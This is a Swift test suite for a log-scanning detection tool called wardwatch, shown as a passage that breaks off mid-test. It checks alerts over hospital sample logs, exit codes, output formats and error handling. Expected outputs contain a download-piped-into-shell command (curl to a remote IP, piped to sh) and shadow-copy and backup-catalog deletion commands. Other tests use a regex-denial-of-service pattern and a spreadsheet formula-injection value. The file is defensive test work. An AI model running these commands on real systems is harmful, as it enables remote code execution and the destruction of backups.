import Dispatch
import Foundation
import Testing
import WardTestSupport

#if canImport(Glibc)
import Glibc
#endif

@Suite struct ScanCommandTests {
    func expected(_ name: String) throws -> String {
        try String(contentsOf: Paths.root.appendingPathComponent("Tests/EndToEndTests/Expected/\(name)"), encoding: .utf8)
    }

    /// The README's main job: the bundled rules over SampleLogs, alert for alert.
    @Test func sampleLogsGiveTheGoldenAlerts() throws {
        let run = try wardwatch(["scan", "--year", "2026", "SampleLogs"])
        #expect(run.status == 0)
        #expect(run.stdout == (try expected("scan-samplelogs.jsonl")))
        #expect(run.stdout.split(separator: "\n").count == 52)
        #expect(run.stderr.contains("  alerts: 52 (critical 6, high 25, medium 14, low 1, informational 6)\n"))
        #expect(run.stderr.contains("  events by dataset: unparsed 2, syslog.rfc3164 56, syslog.rfc5424 506, windows.eventlog 112, firewall.netfilter 1, firewall.fortigate 359, firewall.cisco_asa 15, firewall.filterlog 1, firewall.cef 1, hl7.v2 69, hl7.atna 3, fhir.auditevent 570\n"))
        #expect(run.stderr.contains("  correlations: 26 loaded, 20 fired; 829 events of their rules; 2 without a group-by field (no group); peak 172 groups\n"))
        // The bundled rules that need the site's placeholder values are off, and the summary says so.
        #expect(run.stderr.contains("  rules off until the site gives their placeholders values in "))
        var correlations: [String] = []
        for line in run.stdout.split(separator: "\n") {
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            let author = object["rule.author"] as? String
            // The bundled rules are wardwatch's, or SigmaHQ's rewritten (their authors stay, as the DRL asks).
            #expect(author == "wardwatch" || author?.hasSuffix("(SigmaHQ), rewritten as a correlation by wardwatch") == true)
            if object["correlation.type"] != nil {
                correlations.append(object["rule.name"] as! String)
                #expect((object["correlation.events"] as? [[String: Any]])?.isEmpty == false)
            } else {
                #expect((object["rule.matched"] as? [String])?.isEmpty == false)
            }
        }
        // Every hospital correlation of Rules/correlations fires on the sequences SampleLogs holds; the
        // day at a hospital (SampleLogs/hospital-day) adds shared credentials, a snooping clerk and the
        // ransomware night (VPN spraying, RDP and SMB sweeps, mass service stop).
        #expect(correlations == [
            "Password spraying from one address", "Password guessing against SSH or the EHR from one address",
            "Failed Logins with Different Accounts from Single Source - Linux", "SSH login from an address that was guessing passwords",
            "Port scan of the imaging network", "Network Scans Count By Destination Port",
            "Break-glass access followed by a bulk export by the same user", "One account signed in from two addresses within 5 minutes",
            "One user opened the records of more than 20 patients in an hour",
            "One account signed in from two addresses within 5 minutes", "One user opened the records of more than 20 patients in an hour",
            "VPN session started (FortiGate SSL-VPN or Cisco ASA)", "VPN session started (FortiGate SSL-VPN or Cisco ASA)",
            "VPN password spraying from one address", "VPN session started (FortiGate SSL-VPN or Cisco ASA)",
            "VPN login from an address that was password spraying", "RDP sweep - one host connecting to many hosts on TCP 3389",
            "Network Scans Count By Destination IP", "SMB sweep - one host connecting to many hosts on TCP 445",
            "Mass service stop - ten or more services stopped on one Windows host within 5 minutes",
        ])
    }

    /// Several inputs are merged by event time: the rotated `auth.log.1.gz` of 21 Nov comes before
    /// `auth.log` of 22 Nov and the other hosts' files interleave; `--order input` keeps file after
    /// file, as wardwatch did before the merge; both are the same for any thread count.
    @Test func inputsAreMergedByEventTimeUnlessAskedForInputOrder() throws {
        let merged = try wardwatch(["scan", "--year", "2026", "--threads", "1", "SampleLogs"])
        let stamps = merged.stdout.split(separator: "\n").map { line -> String in
            let object = try! JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            return object["@timestamp"] as! String
        }
        #expect(stamps == stamps.sorted())
        let paths = merged.stdout.split(separator: "\n").map { line -> String in
            let object = try! JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            // A correlation alert names the files of its events in `correlation.events`.
            return object["log.file.path"] as? String ?? "correlation"
        }
        #expect(paths.prefix(4) == ["SampleLogs/linux/auth.log.1.gz", "SampleLogs/linux/auth.log", "SampleLogs/linux/auth.log",
                                    "SampleLogs/firewall/perimeter.log"])
        #expect(merged.stdout == (try expected("scan-samplelogs.jsonl")))
        let four = try wardwatch(["scan", "--year", "2026", "--threads", "4", "SampleLogs"])
        #expect(four.stdout == merged.stdout)
        for threads in ["1", "4"] {
            let input = try wardwatch(["scan", "--year", "2026", "--order", "input", "--threads", threads, "SampleLogs"])
            #expect(input.stdout == (try expected("scan-samplelogs-input-order.jsonl")))
        }
    }

    @Test(.needsShared) func loghubWithASmallRuleSetGivesTheGoldenAlerts() throws {
        let run = try wardwatch(["scan", "--year", "2017", "--rules", "Rules/linux/lnx_sshd_max_auth_attempts.yml",
                                 "--rules", "../shared/sigma/rules/linux/builtin",
                                 "../shared/samples/loghub/OpenSSH/OpenSSH_2k.log", "../shared/samples/loghub/Linux/Linux_2k.log"])
        #expect(run.status == 0)
        #expect(run.stdout == (try expected("scan-loghub.jsonl")))
        #expect(run.stderr.contains("  rules: 23 loaded, 23 for log sources with events\n"))
    }

    @Test(.needsShared) func outputIsByteIdenticalForOneAndFourThreads() throws {
        let dir = try Paths.temporaryDirectory()
        let big = dir.appendingPathComponent("auth-month.log")
        let one = try Data(contentsOf: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log"))
        var data = Data()
        for _ in 0..<30 { data.append(one) }
        try data.write(to: big)  // 6.8 MB, several chunks
        let single = try wardwatch(["scan", "--year", "2017", "--threads", "1", big.path])
        let four = try wardwatch(["scan", "--year", "2017", "--threads", "4", big.path])
        #expect(single.status == 0 && four.status == 0)
        // Per copy: 3 alerts of the bundled single-event rules and 1 accepted login; the correlations
        // fire in the first copy and where a later copy's events are within --max-lateness of the
        // copy before (the rest are late for their groups, counted and ignored).
        #expect(single.stdout.split(separator: "\n").count == 152)
        #expect(single.stderr.contains("36014 later than --max-lateness (ignored)"))
        #expect(four.stdout == single.stdout)
    }

    @Test(.needsShared) func exitCodes() throws {
        // 0: no alert, or alerts without --fail-on-alert.
        let quiet = try wardwatch(["scan", "--rules", "Rules/hospital", "SampleLogs/linux/auth.log"])
        #expect(quiet.status == 0 && quiet.stdout.isEmpty)
        // 1: alerts with --fail-on-alert.
        let alerting = try wardwatch(["scan", "--fail-on-alert", "SampleLogs/linux/auth.log"])
        #expect(alerting.status == 1)
        // Broken rules are reported and skipped; the others are scanned.
        let broken = try wardwatch(["scan", "--rules", "Tests/EndToEndTests/Fixtures/rules-mixed", "SampleLogs/linux/auth.log"])
        #expect(broken.status == 0)
        #expect(jsonLines(broken.stdout).map { $0["rule.name"] as? String } == ["Sudo to a root shell"])
        #expect(broken.stderr.hasPrefix("""
            Tests/EndToEndTests/Fixtures/rules-mixed/bad_yaml.yml:2:1: error: invalid YAML: did not find expected ',' or ']' while parsing a flow sequence
            Tests/EndToEndTests/Fixtures/rules-mixed/linux/lnx_broken.yml:8:9: error: unknown modifier 'contians' (did you mean 'contains'?)
            Tests/EndToEndTests/Fixtures/rules-mixed/linux/lnx_broken.yml:9:29: error: unknown search identifier 'other'
            wardwatch: warning: 2 rule documents in 2 files had errors (above) and were skipped; the other rules are scanned. --strict-rules makes any rule error stop the scan.

            """))
        #expect(broken.stderr.contains("  rules skipped for errors: 2 in 2 files (invalid YAML; other errors; unknown modifiers)\n"))
        // 2: with --strict-rules a broken rule stops the scan (nothing scanned); a bad flag; no rules.
        let strict = try wardwatch(["scan", "--strict-rules", "--rules", "Tests/EndToEndTests/Fixtures/rules-mixed", "SampleLogs/linux/auth.log"])
        #expect(strict.status == 2)
        #expect(strict.stdout.isEmpty)
        #expect(strict.stderr.hasSuffix("wardwatch: error: the rules have errors; nothing was scanned ('wardwatch rules lint' lists them all).\n"))
        let noRules = try wardwatch(["scan", "--rules", "../shared/sigma/rules-dfir", "SampleLogs/linux/auth.log"])
        #expect(noRules.status == 2)
        #expect(noRules.stderr == "wardwatch: error: no rules were loaded from ../shared/sigma/rules-dfir; nothing was scanned.\n")
        // A usage error found while running prints the scan's usage, not the root command's.
        let placeholders = try wardwatch(["scan", "--placeholders", "/no/such.yml", "SampleLogs/linux/auth.log"])
        #expect(placeholders.status == 2)
        #expect(placeholders.stderr == """
            Error: Cannot read the placeholders file '/no/such.yml'.
            Usage: wardwatch scan [<options>] [<paths> ...]
              See 'wardwatch scan --help' for more information.

            """)
        let window = try wardwatch(["scan", "--since", "2026-11-23", "--until", "2026-11-22", "SampleLogs/linux/auth.log"])
        #expect(window.status == 2)
        #expect(window.stderr.hasPrefix("Error: '--since' (2026-11-23) must be earlier than '--until' (2026-11-22): no event could be inside that window."))
        let badFlag = try wardwatch(["scan", "--min-level", "urgent", "SampleLogs"])
        #expect(badFlag.status == 2)
        #expect(badFlag.stderr.hasPrefix("Error: '--min-level' must be informational, low, medium, high or critical, not 'urgent'."))
        // 3: an input error; the other inputs are still scanned.
        let missing = try wardwatch(["scan", "--fail-on-alert", "/no/such.log", "SampleLogs/linux/auth.log"])
        #expect(missing.status == 3)
        #expect(missing.stderr.hasPrefix("wardwatch: error: /no/such.log: no such file or directory.\n"))
        // Failed and invalid-user SSH logins feed the password-guessing correlations and raise no
        // alerts of their own (Sigma's `generate: false`): seven alerts, no correlation fired.
        #expect(missing.stdout.split(separator: "\n").count == 7)
    }

    /// A full disk: the write's own error, how many alerts were written, an exit code of its own (4).
    @Test func anOutputThatCannotBeWrittenStopsTheRunWithItsError() throws {
        let run = try wardwatch(["scan", "--year", "2026", "--output", "/dev/full", "SampleLogs"])
        #expect(run.status == 4)
        #expect(run.stderr.hasSuffix("wardwatch: error: writing alerts failed after 0 of 52 alerts: No space left on device; the run stopped there (inputs after it were not read).\n"))
    }

    /// A pathological pattern on a long line: PCRE2 gives up at the match limit (in bounded time); the
    /// rule matches only if that search is read as a match, so its alert is raised and flagged, the
    /// rule is reported once with the input and line, the summary counts it, and the exit code is 3
    /// (an input not evaluated whole), never 0.
    @Test func aRegexThatGivesUpRaisesAFlaggedAlertNotASilentMiss() throws {
        let dir = try Paths.temporaryDirectory()
        let rule = dir.appendingPathComponent("evil.yml")
        try """
            title: Evil regex
            logsource: {product: linux}
            detection: {selection: {message|re: '^(a+)+$'}, condition: selection}
            level: high
            """.write(to: rule, atomically: true, encoding: .utf8)
        let log = dir.appendingPathComponent("padded.log")
        try ("Nov 22 08:00:00 h app[1]: " + String(repeating: "a", count: 600_000) + "!\nNov 22 08:00:01 h app[1]: aaaa\n")
            .write(to: log, atomically: true, encoding: .utf8)
        let run = try wardwatch(["scan", "--year", "2026", "--rules", rule.path, log.path])
        #expect(run.status == 3)
        let alerts = jsonLines(run.stdout)
        #expect(alerts.map { $0["rule.evaluation_error"] as? Bool } == [true, nil])
        #expect(alerts.map { $0["rule.matched"] as? [String] } == [["selection"], ["selection"]])
        #expect(run.stderr.hasPrefix("wardwatch: warning: \(log.path): line 1: a regular-expression search of rule 'Evil regex' (\(rule.path):1) gave up (match limit exceeded); "))
        #expect(run.stderr.contains("  regular-expression searches that gave up: 1 rule evaluations in 1 rules"))
        // With `not`, reading the search either way gives a different answer too: flagged again.
        try """
            title: Not evil
            logsource: {product: linux}
            detection: {selection: {message|re: '^(a+)+$'}, condition: not selection}
            level: high
            """.write(to: rule, atomically: true, encoding: .utf8)
        let negated = try wardwatch(["scan", "--year", "2026", "--rules", rule.path, log.path])
        #expect(jsonLines(negated.stdout).map { $0["rule.evaluation_error"] as? Bool } == [true])
    }

    /// A reader that goes away (`| head -1`): silent, exit 141, as grep.
    @Test(.needsShared) func aClosedPipeIsSilent() throws {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/bash")
        process.currentDirectoryURL = Paths.root
        let directory = wardwatchBinary().deletingLastPathComponent()
        let log = try Paths.temporaryDirectory().appendingPathComponent("big.log")
        let one = try Data(contentsOf: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log"))
        var data = Data()
        for _ in 0..<20 { data.append(one) }
        try data.write(to: log)
        process.arguments = ["-c", "set -o pipefail; '\(directory.path)/wardwatch' parse --year 2017 '\(log.path)' 2>'\(log.path).err' | head -1 >/dev/null; echo $? > '\(log.path).rc'"]
        try process.run()
        process.waitUntilExit()
        let rc = try String(contentsOfFile: log.path + ".rc", encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(rc == "141")
        #expect(try String(contentsOfFile: log.path + ".err", encoding: .utf8) == "")
    }

    /// The whole SigmaHQ tree, as analysts point Sigma tools at it, without a placeholders file: the 25
    /// rules with unfilled placeholders are named and skipped, the other 3,755 scanned.
    @Test(.needsShared) func theWholeSigmaHQTreeScansWithTheLoadableRules() throws {
        let folders = ["rules", "rules-emerging-threats", "rules-threat-hunting", "rules-placeholder", "rules-compliance"]
        let arguments = folders.flatMap { ["--rules", "../shared/sigma/\($0)"] }
        let run = try wardwatch(["scan"] + arguments + ["SampleLogs/linux/auth.log"])
        #expect(run.status == 0)
        let named = run.stderr.split(separator: "\n").filter { $0.contains(": error: placeholder '%") && $0.contains("the rule is skipped") }
        #expect(named.count == 35)
        #expect(run.stderr.contains("../shared/sigma/rules-emerging-threats/2026/Exploits/CVE-2026-54121/win_security_adcs_certighost_cdc_chase_request.yml:57:37: error: placeholder '%known_cdcs%' has no values; the rule is skipped. Give them with --placeholders FILE"))
        #expect(run.stderr.contains("wardwatch: warning: 25 rule documents in 25 files had errors (above) and were skipped; the other rules are scanned."))
        #expect(run.stderr.contains("  rules: 3,755 loaded, "))
        #expect(run.stderr.contains("  rules skipped for errors: 25 in 25 files (unfilled placeholders)\n"))
        let strict = try wardwatch(["scan", "--strict-rules"] + arguments + ["SampleLogs/linux/auth.log"])
        #expect(strict.status == 2)
        #expect(strict.stdout.isEmpty)
    }

    /// `-q` leaves stderr empty when nothing needs attention; `--color always|never` decide color
    /// whatever stdout is; `-r`, `-f`, `-o` are `--rules`, `--format`, `--output`.
    @Test func quietColorAndShortOptions() throws {
        let quiet = try wardwatch(["scan", "-q", "-r", "Rules/linux", "SampleLogs/linux/secure"])
        #expect(quiet.status == 0)
        #expect(quiet.stderr == "")
        #expect(quiet.stdout.split(separator: "\n").count == 15)
        let always = try wardwatch(["scan", "-q", "-f", "pretty", "--color", "always", "-r", "Rules/linux", "SampleLogs/linux/secure"])
        #expect(always.stdout.hasPrefix("2026-11-22T03:10:00Z  \u{1B}[36mLOW       \u{1B}[0m\u{1B}[1mSSH login attempt for a user that d…\u{1B}[0m  ehr-db01      admin       203.0.113.50     Invalid user admin from 203.0.113.50 port 40001  (SampleLogs/linux/secure:1)\n"))
        let never = try wardwatch(["scan", "-q", "-f", "pretty", "--color", "never", "-r", "Rules/linux", "SampleLogs/linux/secure"])
        #expect(never.stdout.hasPrefix("2026-11-22T03:10:00Z  LOW       SSH login attempt for a user that d…  ehr-db01      admin       203.0.113.50     Invalid user admin from 203.0.113.50 port 40001  (SampleLogs/linux/secure:1)\n"))
        #expect(!never.stdout.contains("\u{1B}"))
        let file = try Paths.temporaryDirectory().appendingPathComponent("alerts.jsonl")
        let written = try wardwatch(["scan", "-q", "-o", file.path, "-r", "Rules/linux", "SampleLogs/linux/secure"])
        #expect(written.stdout == "")
        #expect(try String(contentsOf: file, encoding: .utf8) == quiet.stdout)
        let bad = try wardwatch(["scan", "--color", "sometimes", "SampleLogs/linux/secure"])
        #expect(bad.status == 2)
        #expect(bad.stderr.hasPrefix("Error: '--color' must be auto, always or never, not 'sometimes'."))
    }

    /// An HL7 message exactly at --max-record-bytes (of at least a chunk, 1 MiB) followed by a line
    /// longer than --max-line-bytes: the reader's buffer holds both (it once fell two bytes short,
    /// and the read never ended — a log line could stall a scan).
    @Test func aRecordAtTheLimitThenALongLineDoesNotStall() throws {
        let dir = try Paths.temporaryDirectory()
        var message = "MSH|^~\\&|REG|GH|EHR|GH|20261122080000||ADT^A01|MSG1|P|2.5"
        message += "\nPID|1||12345^^^GH^MR||DOE^JANE"
        let segment = "\nNTE|1|" + String(repeating: "z", count: 40)
        while message.utf8.count < (1 << 20) - 60 { message += segment }
        message += "\nNTE|2|"
        message += String(repeating: "X", count: (1 << 20) - message.utf8.count)
        #expect(message.utf8.count == 1 << 20)
        let log = dir.appendingPathComponent("hl7.log")
        try (message + "\n" + String(repeating: "y", count: 100) + "\nafter\n").write(to: log, atomically: true, encoding: .utf8)
        let process = Process()
        process.executableURL = wardwatchBinary()
        process.arguments = ["parse", "--max-line-bytes", "64", "--max-record-bytes", "1048576", log.path]
        let out = Pipe()
        process.standardOutput = out
        process.standardError = FileHandle.nullDevice
        try process.run()
        let watchdog = DispatchWorkItem { process.terminate() }
        DispatchQueue.global().asyncAfter(deadline: .now() + 30, execute: watchdog)
        let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        watchdog.cancel()
        #expect(process.terminationReason == .exit)
        let events = text.split(separator: "\n")
        #expect(events.count == 3)
        #expect(events.last?.contains("\"message\":\"after\"") == true)
    }

    /// `--format table`: one row per rule that fired, most severe then most frequent first, with the
    /// counts of the summary and the first and last time; written once at the end.
    @Test func tableOfRules() throws {
        let run = try wardwatch(["scan", "-q", "-f", "table", "--year", "2026", "SampleLogs"])
        #expect(run.stdout == (try expected("scan-samplelogs-table.txt")))
        let rows = run.stdout.split(separator: "\n").dropFirst()
        #expect(rows.count == 37)
        #expect(rows.first == "critical             2  2026-11-24T23:16:12Z  2026-11-24T23:17:01Z  Shadow copies, backup catalog or boot recovery deleted or disabled")
        #expect(rows.contains("high                 7  2026-11-22T03:02:11Z  2026-11-22T05:00:02Z  Inbound DICOM or HL7 connection from outside the hospital"))
        let json = try wardwatch(["scan", "--year", "2026", "SampleLogs"])
        #expect(rows.map { Int($0.dropFirst(13).prefix(9).trimmingCharacters(in: .whitespaces))! }.reduce(0, +)
                == json.stdout.split(separator: "\n").count)
        let folder = try wardwatch(["scan", "-f", "table", "-o", "/tmp/", "SampleLogs"])
        #expect(folder.status == 2)
        let markdown = try wardwatch(["scan", "-q", "-f", "markdown", "--year", "2026", "SampleLogs"])
        #expect(markdown.stdout.hasPrefix("## wardwatch: 52 alerts from 37 rules\n\nEvents from 2026-11-21T08:00:00Z to 2026-11-24T23:58:40Z; 1,695 events read.\n\n| level | alerts | first | last | rule |\n| --- | ---: | --- | --- | --- |\n| critical | 2 | 2026-11-24T23:16:12Z | 2026-11-24T23:17:01Z | Shadow copies, backup catalog or boot recovery deleted or disabled |\n"))
        #expect(markdown.stdout.split(separator: "\n").count == 4 + 37)
    }

    /// `--format csv`: the golden timeline of SampleLogs (the same alerts as the JSON golden file, a
    /// header, RFC 4180 quoting); a field a spreadsheet would run as a formula is neutralized.
    @Test func csvTimeline() throws {
        let run = try wardwatch(["scan", "-q", "-f", "csv", "--year", "2026", "SampleLogs"])
        #expect(run.stdout == (try expected("scan-samplelogs.csv")))
        #expect(run.stdout.hasPrefix("timestamp,host,dataset,level,rule,details,source\n"))
        let log = try Paths.temporaryDirectory().appendingPathComponent("auth.log")
        try "Nov 22 03:10:01 ehr-db01 sshd[4101]: Failed password for invalid user =HYPERLINK(\"http://x\") from 203.0.113.50 port 40001 ssh2\n"
            .write(to: log, atomically: true, encoding: .utf8)
        let formula = try wardwatch(["scan", "-q", "-f", "csv", "--year", "2026", "-r", "Rules/linux/lnx_sshd_failed_password.yml", log.path])
        #expect(formula.stdout.split(separator: "\n").dropFirst().first.map(String.init)
                == "2026-11-22T03:10:01.000Z,ehr-db01,syslog.rfc3164,low,SSH password authentication failed,\"Failed password for invalid user =HYPERLINK(\"\"http://x\"\") from 203.0.113.50 port 40001 ssh2\",\(log.path):0")
        let file = try Paths.temporaryDirectory().appendingPathComponent("timeline.csv")
        for _ in 0..<2 { _ = try wardwatch(["scan", "-q", "-f", "csv", "-o", file.path, "-r", "Rules/linux/lnx_sshd_failed_password.yml", log.path]) }
        #expect(try String(contentsOf: file, encoding: .utf8).components(separatedBy: "timestamp,host").count == 2)  // one header
    }

    @Test(.needsShared) func aGzipThatBreaksHalfwayKeepsTheAlertsBeforeTheBreak() throws {
        let dir = try Paths.temporaryDirectory()
        let text = Array(try Data(contentsOf: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log")))
        let compressed = gzipMember(text)
        let cut = dir.appendingPathComponent("auth.log.4.gz")
        try Data(compressed[0..<(compressed.count / 2)]).write(to: cut)
        let run = try wardwatch(["scan", "--year", "2017", cut.path])
        #expect(run.status == 3)
        #expect(run.stderr.hasPrefix("wardwatch: error: \(cut.path): byte \(compressed.count / 2) (decompressed byte "))
        let alerts = run.stdout.split(separator: "\n")
        let total = try wardwatch(["scan", "--year", "2017", Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path]).stdout.split(separator: "\n").count
        #expect(alerts.count >= 3 && alerts.count < total)
        let full = try wardwatch(["scan", "--year", "2017", Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path])
        let fullAlerts = full.stdout.split(separator: "\n").map { $0.replacingOccurrences(of: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path, with: cut.path) }
        // Alike but for `event.id`, which hashes the input's path.
        func withoutID(_ line: String) -> String {
            guard let r = line.range(of: "\"event.id\":\"") else { return line }
            return String(line[..<r.lowerBound]) + String(line[line.index(r.upperBound, offsetBy: 18)...])
        }
        #expect(alerts.map { withoutID(String($0)) } == Array(fullAlerts.prefix(alerts.count)).map(withoutID))
    }

    @Test func outputFileIsPrivateAndAppendedAndFoldersGetOneFilePerLevel() throws {
        let dir = try Paths.temporaryDirectory()
        let file = dir.appendingPathComponent("alerts.jsonl")
        for _ in 0..<2 {
            let run = try wardwatch(["scan", "--year", "2026", "--output", file.path, "SampleLogs"])
            #expect(run.status == 0 && run.stdout.isEmpty)
        }
        let attributes = try FileManager.default.attributesOfItem(atPath: file.path)
        #expect((attributes[.posixPermissions] as? Int) == 0o600)
        let golden = try expected("scan-samplelogs.jsonl")
        #expect(try String(contentsOf: file, encoding: .utf8) == golden + golden)

        let folder = dir.appendingPathComponent("by-level").path + "/"
        let run = try wardwatch(["scan", "--year", "2026", "--output", folder, "SampleLogs"])
        #expect(run.status == 0)
        var counts: [String: Int] = [:]
        for level in ["critical", "high", "medium", "low", "informational"] {
            let text = try String(contentsOfFile: folder + "\(level).jsonl", encoding: .utf8)
            counts[level] = text.split(separator: "\n").count
            for line in text.split(separator: "\n") { #expect(line.contains("\"rule.level\":\"\(level)\"")) }
        }
        #expect(counts == ["critical": 6, "high": 25, "medium": 14, "low": 1, "informational": 6])
    }

    @Test func timeWindowAndMinimumLevelFilter() throws {
        let run = try wardwatch(["scan", "--year", "2026", "--since", "2026-11-22T07:00:00Z", "--until", "2026-11-22T08:00:00Z",
                                 "--min-level", "high", "SampleLogs"])
        #expect(run.status == 0)
        let names = try run.stdout.split(separator: "\n").map { line -> String in
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            return object["rule.name"] as! String
        }
        // The break-glass access at 06:52 is outside the window: its correlation with the 07:10 export
        // does not fire; the export alone does.
        #expect(names == ["Bulk export from the EHR reporting service", "Root shell opened through sudo", "Download piped into a shell",
                          "System or application logs truncated or deleted", "Failed password for the database superuser"])
        #expect(run.stderr.contains("only events inside --since/--until were matched"))
    }

    /// The formats for people on SampleLogs, line for line: pretty without and with color, markdown
    /// (table and csv: `tableOfRulesThatFired`, `csvTimeline`).
    @Test func goldenFormatsForPeople() throws {
        for (options, golden) in [(["-f", "pretty", "--color", "never"], "scan-samplelogs-pretty.txt"),
                                  (["-f", "pretty", "--color", "always"], "scan-samplelogs-pretty-color.txt"),
                                  (["-f", "markdown"], "scan-samplelogs.md")] {
            let run = try wardwatch(["scan", "-q", "--year", "2026"] + options + ["SampleLogs"])
            #expect(run.status == 0)
            #expect(run.stdout == (try expected(golden)), "\(golden)")
        }
    }

    @Test func prettyLinesForPeople() throws {
        let run = try wardwatch(["scan", "--year", "2026", "--format", "pretty", "--min-level", "critical", "SampleLogs"])
        #expect(run.stdout == """
            2026-11-22T03:24:39Z  CRITICAL  SSH login from an address that was …  temporal_ordered 2 in 30m  source=203.0.113.50  2 events from SampleLogs/linux/secure byte 869
            2026-11-22T07:10:00Z  CRITICAL  Break-glass access followed by a bu…  temporal_ordered 2 in 1h  user=jmiller  2 events from SampleLogs/ehr/ehr-app.log byte 0
            2026-11-22T07:36:52Z  CRITICAL  Download piped into a shell           ehr-app01     jmiller     -                jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh  (SampleLogs/linux/auth.log:18)
            2026-11-24T22:49:12Z  CRITICAL  VPN login from an address that was …  temporal_ordered 2 in 30m  source=203.0.113.77  2 events from SampleLogs/hospital-day/vpn-fortigate.log byte 7119
            2026-11-24T23:16:12Z  CRITICAL  Shadow copies, backup catalog or bo…  BKP01.hilde…  jfranke     -                Windows 4688 vssadmin.exe  delete shadows /all /quiet  (SampleLogs/hospital-day/windows-bkp01.jsonl:9)
            2026-11-24T23:17:01Z  CRITICAL  Shadow copies, backup catalog or bo…  BKP01.hilde…  jfranke     -                Windows 4688 wbadmin  delete catalog -quiet  (SampleLogs/hospital-day/windows-bkp01.jsonl:10)

            """)
    }

    /// Hospital audit records in `pretty` say what they record (HL7 type, sender and receiver; ATNA
    /// event code, action and outcome) with the patient's pseudonym, never the raw message.
    @Test func prettySummariesOfAuditRecords() throws {
        let run = try wardwatch(["scan", "-q", "-f", "pretty", "--color", "never", "--year", "2026", "SampleLogs/hl7", "SampleLogs/ehr/atna-audit.log"])
        let lines = run.stdout.split(separator: "\n").map(String.init)
        #expect(lines.contains("2026-11-22T08:15:07Z  LOW       HL7 patient merge or identifier cha…  -             svc_hl7     -                patient=pid:5f987f6643913f5a  HL7 ADT^A40 from REG/GH to EHR/GH  (SampleLogs/hl7/interface-engine.log:6)"))
        #expect(lines.contains("2026-11-22T08:10:03Z  MEDIUM    Failed user authentication in the c…  ehr-app01     mgarcia     10.30.14.77      ATNA 110114 execute failure  (SampleLogs/ehr/atna-audit.log:1)"))
        #expect(!run.stdout.contains("PARKER") && !run.stdout.contains("19780314"))
    }

    /// SIGINT: what was matched is written, the summary printed, and the exit code says so.
    /// SIGINT while stdin has not sent a byte yet: the wait ends at once, the summary is printed, 130.
    /// (It used to hang in the gzip sniff until the 5 s last resort killed it without a summary.)
    @Test func interruptBeforeTheFirstByteEndsTheWait() throws {
        let bundle = URL(fileURLWithPath: CommandLine.arguments[0]).resolvingSymlinksInPath()
        var directory = bundle.deletingLastPathComponent()
        while !FileManager.default.isExecutableFile(atPath: directory.appendingPathComponent("wardwatch").path) {
            directory = directory.deletingLastPathComponent()
        }
        let process = Process()
        process.executableURL = directory.appendingPathComponent("wardwatch")
        process.arguments = ["scan", "-"]
        process.currentDirectoryURL = Paths.root
        let input = Pipe()
        let err = Pipe()
        process.standardInput = input
        process.standardOutput = Pipe()
        process.standardError = err
        try process.run()
        usleep(500_000)
        kill(process.processIdentifier, SIGINT)
        let exited = DispatchSemaphore(value: 0)
        DispatchQueue.global().async {
            process.waitUntilExit()
            exited.signal()
        }
        // Well under the 5 s last resort.
        #expect(exited.wait(timeout: .now() + 3) == .success)
        #expect(process.terminationStatus == 130)
        let stderr = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(stderr.hasPrefix("wardwatch scan: 1 file, 0 bytes, 0 events"))
        try? input.fileHandleForWriting.close()
    }

    @Test func interruptFlushesWhatWasWritten() throws {
        let bundle = URL(fileURLWithPath: CommandLine.arguments[0]).resolvingSymlinksInPath()
        var directory = bundle.deletingLastPathComponent()
        while !FileManager.default.isExecutableFile(atPath: directory.appendingPathComponent("wardwatch").path) {
            directory = directory.deletingLastPathComponent()
        }
        let dir = try Paths.temporaryDirectory()
        let file = dir.appendingPathComponent("alerts.jsonl")
        let process = Process()
        process.executableURL = directory.appendingPathComponent("wardwatch")
        process.arguments = ["scan", "--year", "2026", "--output", file.path, "-"]
        process.currentDirectoryURL = Paths.root
        let input = Pipe()
        let err = Pipe()
        process.standardInput = input
        process.standardError = err
        try process.run()
        try input.fileHandleForWriting.write(contentsOf: Data(contentsOf: Paths.root.appendingPathComponent("SampleLogs/linux/auth.log")))
        // Wait until the alerts of what was sent are on disk, with stdin still open.
        var written = 0
        for _ in 0..<100 {
            written = ((try? String(contentsOf: file, encoding: .utf8)) ?? "").split(separator: "\n").count
            if written == 7 { break }
            usleep(50_000)
        }
        #expect(written == 7)
        kill(process.processIdentifier, SIGINT)
        process.waitUntilExit()
        #expect(process.terminationStatus == 130)
        let stderr = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(stderr.contains("  alerts: 7 "))
        #expect(try String(contentsOf: file, encoding: .utf8).split(separator: "\n").count == 7)
    }
}

@Suite struct BenchCommandTests {
    @Test func benchReportsEveryStageAndThreadCount() throws {
        let run = try wardwatch(["bench", "--generated-rules", "40", "--events", "3000", "--threads", "2"])
        #expect(run.status == 0, "\(run.stderr)")
        let lines = run.stdout.split(separator: "\n").map(String.init)
        #expect(lines[0].hasPrefix("corpus: generated hospital corpus, "))
        #expect(lines[1].hasPrefix("rules: 40 (40 for log sources with events; 40 with prefilter literals), compiled in "))
        #expect(lines[2].hasPrefix("prefilter automata: "))
        let table = lines.drop { !$0.hasPrefix("stage") }.prefix { !$0.hasPrefix("3000 events, ") }
        let stages = table.compactMap { line -> String? in
            let cells = line.split(separator: " ", omittingEmptySubsequences: true)
            return cells.count >= 5 ? cells.dropLast(4).joined(separator: " ") + "/" + cells[cells.count - 4] : nil
        }
        #expect(stages == ["stage/threads", "ingest (chunking)/1", "parse/1", "match/1", "parse + match/1", "parse + match/2"])
        // What the prefilter let through, so that nobody reads a rare-literal figure as a real one.
        let tail = Array(lines.suffix(3))
        #expect(tail[0].hasPrefix("3000 events, "))
